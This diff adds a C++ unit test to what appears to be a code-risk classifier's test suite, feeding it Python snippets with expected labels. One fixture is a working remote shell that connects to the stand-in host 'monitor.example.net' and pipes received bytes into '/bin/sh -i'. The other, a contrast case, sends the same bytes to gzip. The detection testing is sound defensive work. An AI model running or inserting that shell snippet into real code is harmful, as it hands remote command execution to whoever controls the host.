@@ -568,5 +568,33 @@ TEST(NinetiethRoundClasses, AnXorChecksumIsNotACipher) {
   for (const auto& c : cases) check(c);
 }
 
+// A process's stdin is the process seen as its input: what is written there
+// feeds its command line (bytes received from a socket written into an
+// interactive shell's stdin run there).
+TEST(NinetiethRoundClasses, WritesToAProcesssStdinFeedItsCommand) {
+  const Case cases[] = {
+      {"a socket's bytes written into sh -i through Popen.stdin", B,
+       "import socket, subprocess\n"
+       "conn = socket.create_connection(('monitor.example.net', 8443))\n"
+       "console = subprocess.Popen(['/bin/sh', '-i'], stdin=subprocess.PIPE, stdout=subprocess.PIPE)\n"
+       "while console.poll() is None:\n"
+       "    data = conn.recv(4096)\n"
+       "    console.stdin.write(data)\n"
+       "    console.stdin.flush()\n",
+       "REMOTE-CODE-EXECUTION"},
+      {"the same bytes written to a compressor", M,
+       "import socket, subprocess\n"
+       "conn = socket.create_connection(('monitor.example.net', 8443))\n"
+       "gz = subprocess.Popen(['gzip', '-c'], stdin=subprocess.PIPE, stdout=open('dump.gz', 'wb'))\n"
+       "while True:\n"
+       "    data = conn.recv(4096)\n"
+       "    if not data:\n"
+       "        break\n"
+       "    gz.stdin.write(data)\n",
+       "RUNS-PROCESS"},
+  };
+  for (const auto& c : cases) check(c);
+}
+
 }  // namespace
 }  // namespace mai::assess::test
